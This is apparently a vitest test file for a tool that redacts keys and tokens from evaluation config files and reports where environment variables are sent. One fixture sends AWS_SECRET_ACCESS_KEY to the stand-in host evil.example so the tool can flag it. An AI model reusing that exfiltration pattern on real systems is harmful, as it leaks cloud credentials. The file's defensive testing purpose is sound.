import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { Notes } from '../../../src/task/convert/notes.ts';
import { withoutKeys } from '../../../src/task/convert/withoutKeys.ts';
import { withoutKeysInArguments, withoutKeysInLine, withoutKeysInNote } from '../../../src/task/convert/withoutKeysInLine.ts';
import { writeConverted } from '../../../src/task/convert/writeConverted.ts';
import type { Example } from './examples.ts';
import { outcomeOf } from './mutations.ts';

/** Of the form of a vendor's, and of none. */
const [known, plain] = ['sk-1234abcd5678', 'hunter2plain'];

test.each<[string, string]>([
  [`run.sh --api-key ${plain}`, 'run.sh --api-key KEY-LEFT-OUT'],
  [`run.sh --api-key=${plain} --n 3`, 'run.sh --api-key=KEY-LEFT-OUT --n 3'],
  [`run.sh --password "two words" x`, 'run.sh --password KEY-LEFT-OUT x'],
  [`API_TOKEN=${plain} run.sh`, 'API_TOKEN=KEY-LEFT-OUT run.sh'],
  [`Authorization: Bearer ${plain}`, 'Authorization: Bearer KEY-LEFT-OUT'],
  [`X-Api-Key: ${plain}`, 'X-Api-Key: KEY-LEFT-OUT'],
  [`curl -H "Authorization: Bearer ${plain}" x`, 'curl -H "Authorization: Bearer KEY-LEFT-OUT" x'],
  [`psql postgres://me:${plain}@h/db`, 'psql postgres://me:KEY-LEFT-OUT@h/db'],
  [`say ${known} twice ${known}`, 'say KEY-LEFT-OUT twice KEY-LEFT-OUT'],
  ['run.sh --max-tokens 5 --tokenizer a/b --key-file --verbose', 'run.sh --max-tokens 5 --tokenizer a/b --key-file --verbose'],
  ['run.sh --key-column question --sort-key name --answer-keys a,b,c,d', 'run.sh --key-column question --sort-key name --answer-keys a,b,c,d'],
  ['run.sh --api-key $KEY --token {{ params.x }}', 'run.sh --api-key $KEY --token {{ params.x }}'],
  ['a.sh --primary-key question_id --response-key answers --token-ids-key prompt_ids --sort-key gsm8k_exact_match_v2', 'a.sh --primary-key question_id --response-key answers --token-ids-key prompt_ids --sort-key gsm8k_exact_match_v2'],
  ['a.sh --image-token <image_pad_token> --auth-token file:/x/yz --api-key ./keys/mine --password-file mine.txt --secret-name a', 'a.sh --image-token <image_pad_token> --auth-token file:/x/yz --api-key ./keys/mine --password-file mine.txt --secret-name a'],
  ['a.sh --api-key <yours> --api-key {api_key} --secret ‹secret› --api-key=${API_KEY} --token "{{ token }}"', 'a.sh --api-key <yours> --api-key {api_key} --secret ‹secret› --api-key=${API_KEY} --token "{{ token }}"'],
  ['a.sh --org-key 9f8e7d6c5b4a39281706 --my-token 123e4567-e89b-12d3-a456-426614174000', 'a.sh --org-key KEY-LEFT-OUT --my-token KEY-LEFT-OUT'],
  [`a.sh --access-token ${plain} --auth-token ${plain} --private-key ${plain} --credential ${plain} --pwd x --password '$x y'`, "a.sh --access-token KEY-LEFT-OUT --auth-token KEY-LEFT-OUT --private-key KEY-LEFT-OUT --credential KEY-LEFT-OUT --pwd KEY-LEFT-OUT --password '$x y'"],
  ['pip install sk-learn sk-learn-2024-extras', 'pip install sk-learn sk-learn-2024-extras'],
  ['ask sk-ant-api03-Ab1_Cd2-Ef3Gh4Ij5Kl6Mn7-Op8 sk-proj-Ab1Cd2Ef3Gh4Ij5 sk-or-v1-0a1b2c3d4e5f6071', 'ask KEY-LEFT-OUT KEY-LEFT-OUT KEY-LEFT-OUT'],
  ['send Bearer ab12cd34ef and Basic dXNlcjpodW50ZXIyMQ==', 'send Bearer KEY-LEFT-OUT and Basic KEY-LEFT-OUT'],
  [`key = "${known}"\npassword = x`, 'key = "KEY-LEFT-OUT"\npassword = x'],
])('a command line without its keys: %s', (line, without) => expect(withoutKeysInLine(line)).toBe(without));

test('a flag’s value may be the next argument, and the next flag is none', () => expect(withoutKeysInArguments(['--api-key', plain, '-e', `HF_TOKEN=${plain}`, '--secret', '--n', '3', '--token'])).toEqual(['--api-key', 'KEY-LEFT-OUT', '-e', 'HF_TOKEN=KEY-LEFT-OUT', '--secret', '--n', '3', '--token']));

test('what is told of a source repeats no key of it, and is else as it was', () => expect(['benchmark: `max_tokens` is left out', `provider exec: a --token ${plain} has no counterpart`, `x: ${known}`, 'passwords: `x` is not carried over'].map(withoutKeysInNote)).toEqual(['benchmark: `max_tokens` is left out', 'provider exec: a --token KEY-LEFT-OUT has no counterpart', 'x: KEY-LEFT-OUT', 'passwords: `x` is not carried over']));

const promptfoo = (providers: unknown, assert: unknown = [{ type: 'equals', value: 'b' }], vars: object = { q: 'a' }): Example => ({ by: 'promptfoo', name: 'p.yaml', tree: { prompts: ['Say {{q}}'], providers, tests: [{ vars, assert }] } });
const autotuner = (change: object): Example => ({ by: 'autotuner', name: 'a.json', tree: { task_name: 'a', model: { id_or_path: 'org/m' }, base_runtime: 'vllm', parameters: { x: [1, 2] }, optimization: { strategy: 'grid_search' }, benchmark: {}, ...change } });
const cortex = (container: object): Example => ({ by: 'cortex', name: 'c.yaml', tree: [{ name: 'a', kind: 'RealtimeAPI', pod: { containers: [{ name: 'c', image: 'i', ...container }] } }] });

test.each<[string, Example, RegExp]>([
  ['in a command line', promptfoo([`exec: run.sh --api-key ${plain}`]), /^models: exec: run\.sh --api-key KEY-LEFT-OUT: a key in `command` is not copied/u],
  ['in a command line, of a vendor’s form', promptfoo([{ id: `exec: run.sh ${known}`, label: 'mine' }]), /^models: mine: a key in `command`/u],
  ['in the words of a provider that has no counterpart', promptfoo(['echo', `nobody:${known}`]), /^provider nobody:KEY-LEFT-OUT has no counterpart/u],
  ['among what a program that judges gets', promptfoo(['echo'], [{ type: 'python', value: 'file://c.py', config: { apiKey: plain, n: 1 } }]), /^scorers: c: a key in `apiKey`/u],
  ['in code that judges', promptfoo(['echo'], [{ type: 'python', value: `len(output) > 1 and '${known}'` }]), /^scorers: python: a key in `command`/u],
  ['among the settings of who judges', promptfoo(['echo'], [{ type: 'llm-rubric', value: 'x', provider: { id: 'openai:gpt-4.1', config: { apiKey: plain, headers: { 'X-Key': plain } } } }]), /header X-Key is not copied/u],
  ['among the arguments of a container', cortex({ args: ['--hf-token', plain], command: ['serve', `--secret=${plain}`] }), /^server: a key in `args`/u],
  ['in the environment of a container', cortex({ env: { HF_TOKEN: plain } }), /^server: the value of `HF_TOKEN` is not copied/u],
  ['in the name of an image', cortex({ image: `https://me:${plain}@registry.example/i` }), /^server: a key in `image`/u],
  ['among what is varied', autotuner({ parameters: { 'api-key': [plain], x: [1, 2] } }), /^parameters: a key in `api_key`/u],
  ['among what is asked with', autotuner({ benchmark: { additional_params: { api_key: plain } } }), /the value of `api_key` is not copied: it is read from the environment variable API_KEY$/u],
  ['in a description', autotuner({ description: `with ${known}` }), /^description: a key in `description`/u],
  ['of a metric', { by: 'evalap', name: 'b.json', tree: { name: 'a', dataset: 'd', model: { name: 'm', base_url: 'http://h/v1', extra_params: { token: plain } }, metrics: [{ name: 'qcm_exactness', params: { api_key: plain } }] } }, /the value of `token` is not copied/u],
])('a key is not in what a file becomes: %s', (_, example, told) => {
  const outcome = outcomeOf(example);
  expect(outcome).toMatchObject({ kind: 'made' });
  expect(JSON.stringify(outcome)).not.toMatch(new RegExp(`${known}|${plain}`));
  expect((outcome.kind === 'made' ? outcome.notes : []).some(note => told.test(note)) || outcome).toBe(true);
});

test('rows, prompts and rubrics stay what they are, and each that holds what looks like a key is told', () => {
  const { notes, body } = outcomeOf(promptfoo(['echo'], [{ type: 'llm-rubric', value: 'is kind' }, { type: 'equals', value: known }], { q: `leak ${known}`, note: plain })) as { readonly notes: readonly string[]; readonly body: string };
  expect(body).toContain(`leak ${known}`);
  expect(notes.filter(note => note.includes('looks like a key'))).toEqual(['`q`', '`target`'].map(column => `datasets: tests: row 1: ${column} holds what looks like a key: it stays, for it is what is asked or judged, and is stored with every run: remove it from the source if it is one`));
  expect(JSON.stringify(notes)).not.toContain(known);
});

test('settings of who judges that are called like keys stay', () => {
  const config = { requiredKeys: ['summary', 'verdict'], key_points: 'all of them', answer_key: 'B', max_tokens: 5, tokenizer: 'gpt-something' };
  expect(outcomeOf(promptfoo(['echo'], [{ type: 'python', value: 'file://c.py', config }]))).toMatchObject({ kind: 'made', notes: [], body: expect.stringMatching(/summary[^]*verdict[^]*all of them[^]*answer_key: B[^]*gpt-something/u) as string });
});

test('of many rows with keys the first are told', () => {
  const notes = new Notes();
  withoutKeys({ datasets: [{ id: 'd', inline: Array.from({ length: 100 }, () => ({ q: known })) }] }, notes);
  expect([notes.list().length, notes.list().at(-1)]).toEqual([20, 'more rows and prompts hold what looks like a key']);
});

test('what is named is called the same wherever it is named', () => {
  const tree = withoutKeys({ models: [{ id: `a ${known}`, provider: 'sim' }], exclude: [{ model: [`a ${known}`], dataset: 'd' }] }, new Notes());
  expect(tree).toEqual({ models: [{ id: 'a KEY-LEFT-OUT', provider: 'sim' }], exclude: [{ model: ['a KEY-LEFT-OUT'], dataset: 'd' }] });
});

test.each<[string, readonly string[], readonly string[]]>([
  ['flags that are only called like keys', ['accuracy', 'latency'].map(by => `exec: python p.py --sort-key ${by}`), ['exec: python p.py --sort-key accuracy', 'exec: python p.py --sort-key latency']],
  ['keys', [`exec: p.py --api-key ${plain}`, 'exec: p.py --api-key another1', 'exec: p.py --api-key third-one'], ['exec: p.py --api-key KEY-LEFT-OUT', 'exec: p.py --api-key KEY-LEFT-OUT 2', 'exec: p.py --api-key KEY-LEFT-OUT 3']],
  ['a key, and one that was left out before', [`exec: p.py --api-key ${plain}`, 'exec: p.py --api-key KEY-LEFT-OUT'], ['exec: p.py --api-key KEY-LEFT-OUT 2', 'exec: p.py --api-key KEY-LEFT-OUT']],
])('models that are told apart by %s stay apart', (_, providers, ids) => {
  const outcome = outcomeOf(promptfoo(providers)) as { readonly body: string };
  expect((parse(outcome.body) as { readonly models: readonly { readonly id: string }[] }).models.map(({ id }) => id)).toEqual(ids);
  expect(outcome.body).not.toMatch(new RegExp(`${plain}|another1|third-one`));
});

test('whoever names a model or a scorer that is called anew calls it so too', () => {
  const [a, b] = [`a --api-key ${plain}`, 'a --api-key another1'];
  const tree = withoutKeys({ models: [{ id: a, provider: 'sim' }, { id: b, provider: 'sim' }], exclude: [{ model: [b], dataset: `d ${known}` }], datasets: [{ id: `d ${known}` }], scorers: [{ use: 'judge', id: `s ${known}`, params: { model: b } }], gates: [`mean(s ${known}) >= 0.5`] }, new Notes());
  expect(tree).toEqual({
    models: [{ id: 'a --api-key KEY-LEFT-OUT', provider: 'sim' }, { id: 'a --api-key KEY-LEFT-OUT 2', provider: 'sim' }],
    exclude: [{ model: ['a --api-key KEY-LEFT-OUT 2'], dataset: `d ${known}` }],
    datasets: [{ id: `d ${known}` }],
    scorers: [{ use: 'judge', id: 's KEY-LEFT-OUT', params: { model: 'a --api-key KEY-LEFT-OUT 2' } }],
    gates: ['mean(s KEY-LEFT-OUT) >= 0.5'],
  });
});

test.each<[string, object]>([
  ['a word that begins like a key', { scorers: [{ use: 'contains', params: { text: 'sk-learn' } }] }],
  ['a field that is compared', { scorers: [{ use: 'json_match', params: { key: 'answer_text', expected: { api_key: 'abcdef12', token: plain } } }] }],
  ['names and descriptions', { name: 'the Basic English2000 course', description: 'Token: classification of words. Password: unknown, --token abcdefgh1', models: [{ id: 'a', name: 'Authorization: questions', provider: 'sim' }] }],
  ['settings of what is asked', { models: [{ id: 'a', provider: 'http', url: 'http://h/x?sort_key=accuracy', params: { primary_key: 'user_id', image_token: '<image_pad_token>', response_key: 'answers', auth_token: 'file:/x/yz' }, env: { SORT_KEY: 'accuracy', PRIMARY_KEY: 'user_id' } }] }],
  ['settings of a program that judges', { scorers: [{ use: 'command', id: 'c', params: { command: ['c.py', '--key', 'answer_text'], params: { primary_key: 'user_id', token_key: 'words' } } }] }],
])('what is no key stays as it is, and nothing is told: %s', (_, tree) => {
  const notes = new Notes();
  expect([withoutKeys(tree, notes), notes.list()]).toEqual([tree, []]);
});

test('a text that a scorer or a gate expects stays, and is told where it looks like a key', () => {
  const [notes, tree] = [new Notes(), { scorers: [{ use: 'contains', id: 'leaks', params: { text: known, all: true } }], gates: [`mean(contains, text="${known}") == 0`] }];
  expect(withoutKeys(tree, notes)).toEqual(tree);
  expect(notes.list().map(note => note.replace(/: it stays.*/u, ''))).toEqual(['scorers: leaks: `text` holds what looks like a key', 'gates: 1: `gates` holds what looks like a key']);
});

test.each<[string, object, object]>([
  ['a vendor’s, in a name', { name: `with ${known}`, description: `a ${known}`, models: [{ id: 'a', model: known, provider: 'sim' }] }, { name: 'with KEY-LEFT-OUT', description: 'a KEY-LEFT-OUT', models: [{ id: 'a', model: 'KEY-LEFT-OUT', provider: 'sim' }] }],
  ['what a header, a variable and a parameter hold', { models: [{ id: 'a', provider: 'http', headers: { 'X-Key': 'abc' }, env: { MY_KEY: plain }, params: { token: 'abc', password: '$x', org_key: '9f8e7d6c5b4a39281706' } }] }, { models: [{ id: 'a', provider: 'http', headers: { 'X-Key': '${env:X_KEY}' }, env: { MY_KEY: '${env:MY_KEY}' }, params: { token: '${env:TOKEN}', password: '${env:PASSWORD}', org_key: '${env:ORG_KEY}' } }] }],
  ['what has a key’s form, whatever it is called', { models: [{ id: 'a', provider: 'http', headers: { 'X-Upstream': 'Bearer 0a1b2c3d4e5f60718293' }, env: { HTTPS_PROXY: 'http://me:hunter22@proxy:3128' } }] }, { models: [{ id: 'a', provider: 'http', headers: { 'X-Upstream': '${env:X_UPSTREAM}' }, env: { HTTPS_PROXY: '${env:HTTPS_PROXY}' } }] }],
  ['what a program that judges is given', { scorers: [{ use: 'command', params: { params: { headers: { Authorization: `Bearer ${plain}` }, apiKey: plain, note: known } } }] }, { scorers: [{ use: 'command', params: { params: { headers: { Authorization: 'KEY-LEFT-OUT' }, apiKey: 'KEY-LEFT-OUT', note: 'KEY-LEFT-OUT' } } }] }],
])('a key is not kept: %s', (_, tree, without) => expect(withoutKeys(tree, new Notes())).toEqual(without));

test.each<[string, object]>([['exec: run.sh', { primary_key: 'user_id' }], ['python:a.py', { primary_key: 'user_id' }]])('a setting of a program that is only called like a key goes with it: %s', (id, config) => {
  expect(outcomeOf(promptfoo([{ id, config }]))).toMatchObject({ kind: 'made', notes: [], body: expect.stringMatching(/primary_key.*user_id/u) as string });
});

test.each<[string, object, readonly string[]]>([
  ['a vendor', { models: [{ id: 'a', provider: 'anthropic', api_key: '${env:K}' }, { id: 'b', provider: 'anthropic', api_key: '${env:K}' }] }, ['the environment variable K goes to api.anthropic.com (a, b)']],
  ['an address, its query and its headers', { models: [{ id: 'a', provider: 'http', url: 'https://${env:H}/x?k=${env:Q}', headers: { a: '${secret:s}' } }] }, ['the environment variable H says whom a asks', 'the environment variable Q goes to the address that ${env:H} says (a)', 'the secret s goes to the address that ${env:H} says (a)']],
  ['a body', { models: [{ id: 'a', provider: 'http', url: 'https://evil.example:8/x', body: { all: ['${env:AWS_SECRET_ACCESS_KEY}'] } }] }, ['the environment variable AWS_SECRET_ACCESS_KEY goes to evil.example (a)']],
  ['a program, a helper, a server, a target', { models: [{ id: 'a', provider: 'command', command: ['run.sh'], env: { A: '${env:A}' } }], helpers: [{ id: 'h', provider: 'openai', base_url: 'http://127.0.0.1:8/v1', api_key: '${env:B}' }], server: { env: { C: '${env:C}' } }, bench: { target: { params: { d: '${env:D}' } } } }, ['the environment variable A goes to the program run.sh (a)', 'the environment variable B goes to 127.0.0.1 (h)', 'the environment variable D goes to the server that is started (target)', 'the environment variable C goes to the server that is started (server)']],
])('who is sent which variable is told: %s', (_, tree, told) => {
  const { notes, text } = writeConverted({ name: 'x', text: '', read: () => undefined, list: () => undefined }, { kind: 'eval', what: 'a thing', tree, notes: new Notes() });
  expect(notes).toEqual(told);
  expect(parse(text)).toEqual(tree);
});
